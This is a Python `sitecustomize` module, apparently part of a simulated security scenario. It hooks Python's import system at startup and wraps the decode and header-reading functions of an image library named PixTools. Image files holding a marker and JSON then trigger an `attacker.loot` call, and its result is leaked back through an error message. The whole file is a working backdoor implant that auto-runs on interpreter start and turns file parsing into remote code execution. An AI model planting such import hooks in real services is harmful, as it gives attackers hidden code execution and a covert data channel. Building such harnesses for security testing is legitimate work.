"""Lets certain files run code in the processes that read pictures, like files that exploit a bug in a codec.

Python imports a module named `sitecustomize` when it starts. A service that starts with this folder and the folder of
`attacker.py` on its PYTHONPATH runs `attacker.loot` when it decodes a file or reads the header of a file that contains
the bytes of DECODING or READING. JSON with the arguments follows these bytes. The result is the detail of the error
that refuses the file.
"""

from __future__ import annotations

import json
import sys
from importlib.abc import MetaPathFinder
from importlib.machinery import PathFinder

from attacker import DECODING, READING, loot

TARGETS = {"pixtools.imaging.decoding": ("decode", DECODING), "pixtools.imaging.header": ("inspect", READING)}


class _Infect(MetaPathFinder):
    def find_spec(self, name, path, target=None):  # noqa: ARG002 (part of the protocol)
        if name not in TARGETS:
            return None
        spec = PathFinder.find_spec(name, path)
        load = spec.loader.exec_module

        def load_and_infect(module):
            load(module)
            _infect(module, *TARGETS[name])

        spec.loader.exec_module = load_and_infect
        return spec


def _infect(module, function, marker):
    from pixtools.errors import CorruptImage  # noqa: PLC0415 (not every Python process here has PixTools)

    harmless = getattr(module, function)

    def attacked(data, *args, **options):
        content = data
        if not isinstance(data, bytes):
            content = data.read()
            data.seek(0)
        if marker in content:
            arguments = json.JSONDecoder().raw_decode(content.split(marker, 1)[1].decode(errors="replace"))[0]
            raise CorruptImage(json.dumps(loot(**arguments)))
        return harmless(data, *args, **options)

    setattr(module, function, attacked)


sys.meta_path.insert(0, _Infect())
